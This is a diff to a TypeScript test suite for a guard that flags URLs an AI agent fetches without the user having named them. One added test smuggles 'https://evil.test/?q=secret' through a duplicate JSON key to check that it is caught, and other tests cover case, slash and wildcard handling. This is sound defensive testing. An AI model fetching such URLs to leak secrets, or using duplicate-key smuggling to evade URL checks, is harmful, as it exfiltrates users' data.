@@ -48,6 +48,20 @@ test.each([
   );
 });
 
+test('[S18] of two addresses in one call the one that is fetched is judged', async () => {
+  const evil = 'https://evil.test/?q=secret';
+  const judged = { ...fetchOf(evil), args: `{"url":"https://docs.test/guide","url":"${evil}"}` };
+  const [asked] = await withComposedUrls([judged], hostWith(conversation));
+  expect(asked?.facts.dangers?.length ?? 0).toBe(1);
+});
+
+test('[S18] an address counts as said however the person spelled it', async () => {
+  const said: readonly Message[] = [{ role: 'user', text: 'Look at HTTPS://Docs.test and tell me.' }];
+  const judged = { ...fetchOf('https://docs.test/'), args: '{"url":"HTTPS://Docs.test"}' };
+  const [free] = await withComposedUrls([judged], hostWith(said));
+  expect(free?.facts.dangers ?? []).toEqual([]);
+});
+
 test('[S18] a rule that names the very address allows it; a wildcard does not', async () => {
   const url = 'https://api.test/status';
   const under = async (pattern: string) => {
@@ -56,4 +70,21 @@ test('[S18] a rule that names the very address allows it; a wildcard does not', 
     return judged?.facts.dangers?.length ?? 0;
   };
   expect([await under(url), await under('https://api.test/*'), await under('**')]).toEqual([0, 1, 1]);
+});
+
+test('[S18] an address stands as it was normalised, as the model wrote it, or without its last slash', async () => {
+  const asked = async (said: string, url: string, args: unknown) => {
+    const fetch = { ...fetchOf(url), args: typeof args === 'string' ? args : (args as never) };
+    const [judged] = await withComposedUrls([fetch], hostWith([{ role: 'user', text: said }]));
+    return judged?.facts.dangers?.length ?? 0;
+  };
+  const url = 'https://docs.test/';
+  expect(await asked('see https://docs.test', url, '{"url":"https://docs.test"}')).toBe(0);
+  expect(await asked('see HTTPS://DOCS.test now', url, '{"url" : "HTTPS://DOCS.test"}')).toBe(0);
+  expect(await asked('see HTTPS://DOCS.test now', url, '{}')).toBe(1);
+  expect(await asked('see https://docs.test', url, '{}')).toBe(0);
+  expect(await asked('see https://docs.test', url, { blob: 'b', length: 1, preview: '' })).toBe(0);
+  expect(await asked('https://docs.test/x and https://docs.test/', url, '{}')).toBe(0);
+  expect(await asked('https://docs.testing', 'https://docs.test', '{}')).toBe(1);
+  for (const end of [...' \n"\'<>)]},;.!?']) expect(await asked(`${url}${end}`, url, '{}')).toBe(0);
 });
